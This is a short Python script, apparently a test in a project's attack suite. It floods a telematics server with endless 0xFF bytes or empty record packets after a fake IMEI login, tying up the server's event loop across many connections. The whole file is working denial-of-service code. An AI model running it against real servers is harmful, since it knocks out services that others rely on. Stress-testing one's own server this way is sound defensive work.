"""Hold the server's event loop: FF bytes from half of the connections, or from the only one; from
the others packets of no records whose answers are never read.

python tests/attacks/ff_stream.py HOST PORT SECONDS [CONNECTIONS]
"""

import socket
import sys
import threading
import time

HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
CONNECTIONS = int(sys.argv[4]) if len(sys.argv) > 4 else 1
END = time.monotonic() + SECONDS
PINGS = b"\xff" * 4_000_000
EMPTY = bytes.fromhex("00000000 00000003 080000 0000C281") * 200_000
sent, connected = [0] * CONNECTIONS, [0] * CONNECTIONS


def attack(number: int) -> None:
    imei, data = b"\x00\x0f35630704%07d" % number, EMPTY if number % 2 else PINGS
    while time.monotonic() < END:
        try:
            with socket.create_connection((HOST, PORT), timeout=1) as server:
                connected[number] += 1
                server.sendall(imei)
                at = 0
                while time.monotonic() < END:
                    count = server.send(data[at % len(data) :])
                    at, sent[number] = at + count, sent[number] + count
        except OSError:
            time.sleep(0.01)  # closed, or not read for a second: come again


threads = [threading.Thread(target=attack, args=(number,)) for number in range(CONNECTIONS)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(f"{sum(sent)} bytes of FF and of packets of no records, {sum(connected)} connections")
